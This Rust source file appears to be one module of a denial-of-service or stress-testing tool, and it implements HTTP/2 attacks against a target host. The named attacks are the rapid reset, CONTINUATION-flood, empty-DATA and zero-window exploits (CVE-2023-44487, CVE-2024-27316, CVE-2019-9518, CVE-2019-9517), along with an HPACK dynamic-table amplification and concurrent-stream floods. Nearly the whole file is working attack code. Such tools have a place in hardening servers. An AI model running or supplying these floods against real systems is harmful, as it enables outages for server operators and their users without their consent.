//! Abuse of HTTP/2, frame by frame, as a browser's own library would never send it.
//! Invariant: an abuser opens a new connection when its last one was closed, until the kind ends.

use super::abuser::Abuser;
use super::wire::{Line, frame, head};
use std::io;

/// Frames in one write.
const PIECE: usize = 200;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
/// Flags of a HEADERS frame.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Methods by their index in HPACK's static table.
const GET: u8 = 2;
const POST: u8 = 3;

/// The same frame as fast as possible. The client does not read, so that soon the program cannot send any
/// answer.
pub fn stream_of(it: &Abuser, kind: u8, stream: u32, payload: &[u8]) {
    let many = frame(kind, 0, stream, payload).repeat(PIECE);
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        // It is correct if the program accepts no more bytes.
        while !it.is_over() && line.send(&many).is_ok() {}
        Ok(None)
    });
}

/// Streams opened and reset immediately (CVE-2023-44487).
pub fn rapid_reset(it: &Abuser) {
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        for first in (1..200_000_u32).step_by(2 * PIECE) {
            let one =
                |id| [request(it, GET, END_STREAM, id), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat();
            let many: Vec<u8> = (0..PIECE as u32).flat_map(|n| one(first + 2 * n)).collect();
            line.send(&many)?;
            if it.is_over() {
                break;
            }
        }
        to_end(it, &mut line)
    });
}

/// A header block whose end never comes (CVE-2024-27316).
pub fn continuation(it: &Abuser) {
    let more = [&[0x00, 1, b'x', 126][..], &[b'y'; 126]].concat().repeat(100);
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        line.send(&frame(HEADERS, END_STREAM, 1, &head(GET, &it.target.host)))?;
        while !it.is_over() {
            line.send(&frame(CONTINUATION, 0, 1, &more))?;
        }
        Ok(None)
    });
}

/// One header of four kilobytes put into HPACK's dynamic table, and ten thousand references to it.
pub fn unfolding(it: &Abuser) {
    // A literal with indexing, a name of one letter, a value of 3,900 bytes: the length in HPACK's integer
    // form.
    let kept = [&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d][..], &[b'y'; 3_900]].concat();
    // 62 is the index of the newest entry.
    let named = vec![0x80 | 62; 10_000];
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        let first = [head(GET, &it.target.host), kept.clone(), named.clone()].concat();
        line.send(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &first))?;
        for id in (3..2_000).step_by(2) {
            let again = [head(GET, &it.target.host), named.clone()].concat();
            line.send(&frame(HEADERS, END_STREAM | END_HEADERS, id, &again))?;
            if it.is_over() {
                break;
            }
        }
        to_end(it, &mut line)
    });
}

/// An empty body in an endless number of frames (CVE-2019-9518).
pub fn empty_pieces(it: &Abuser) {
    let many = frame(DATA, 0, 1, &[]).repeat(PIECE);
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        line.send(&request(it, POST, 0, 1))?;
        while !it.is_over() && line.send(&many).is_ok() {}
        Ok(None)
    });
}

/// As many requests as are allowed on each connection, and a window of zero bytes for the answers
/// (CVE-2019-9517).
pub fn no_room(it: &Abuser) {
    let none = [0, 4, 0, 0, 0, 0];
    it.hold(
        || {
            let mut line = it.shake_two(&none)?;
            let many: Vec<u8> = (0..100).flat_map(|n| request(it, GET, END_STREAM, 1 + 2 * n)).collect();
            line.send(&many).map(|()| line)
        },
        |_| Ok(()),
    );
    it.let_go();
}

/// Thousands of concurrent requests on each connection, whatever the program allows.
pub fn many_streams(it: &Abuser) {
    it.flood(|| {
        let mut line = it.shake_two(&[])?;
        for first in (1..40_000_u32).step_by(2 * PIECE) {
            let many: Vec<u8> = (0..PIECE as u32).flat_map(|n| request(it, POST, 0, first + 2 * n)).collect();
            line.send(&many)?;
            if it.is_over() {
                break;
            }
        }
        to_end(it, &mut line)
    });
}

fn request(it: &Abuser, method: u8, flags: u8, id: u32) -> Vec<u8> {
    frame(HEADERS, flags | END_HEADERS, id, &head(method, &it.target.host))
}

/// Reads until the other side closes. Errors: it has closed.
fn to_end<T>(it: &Abuser, line: &mut Line) -> io::Result<Option<T>> {
    while !it.is_over() {
        line.drain()?;
    }
    Ok(None)
}
